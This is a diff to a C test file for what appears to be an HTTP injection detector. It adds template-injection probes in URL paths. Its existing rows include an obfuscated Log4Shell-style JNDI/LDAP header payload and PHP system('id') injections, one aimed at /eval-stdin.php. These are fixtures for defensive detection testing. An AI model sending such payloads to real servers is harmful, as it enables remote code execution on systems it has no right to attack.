@@ -161,6 +161,9 @@ static void code_in_headers_does_not_hang_on_the_resource(void **state)
 		{ "GET / HTTP/1.1\r\nUser-Agent: ${${::-j}${lower:n}d${env:NO:-i}:ldap://h/x}\r\n\r\n", LANGUAGE_JNDI,
 		  "${${::-j}${lower:n}d${env:NO:-i}:ldap://h/x}", CONTEXT_ALONE, SINK_HEADER },
 		/* a log that is included later runs it; in a body only the resource does */
+		/* of a path an application takes the part for its value that the code stands in */
+		{ HEAD("/hello/to/dear%20%7B%7B7*7%7D%7D/now"), LANGUAGE_TEMPLATE, "dear {{7*7}}", CONTEXT_ALONE, SINK_HEADER },
+		{ HEAD("/hello/%7B%7B14/2%7D%7D"), LANGUAGE_TEMPLATE, "{{14/2}}", CONTEXT_ALONE, SINK_HEADER },
 		{ HEAD("/missing?%3C?php%20system('id');"), LANGUAGE_PHP, "<?php system('id');", CONTEXT_ALONE, SINK_HEADER },
 		{ "POST /eval-stdin.php HTTP/1.1\r\n\r\n<?php system('id');", LANGUAGE_PHP, "<?php system('id');",
 		  CONTEXT_ALONE, SINK_RESOURCE },
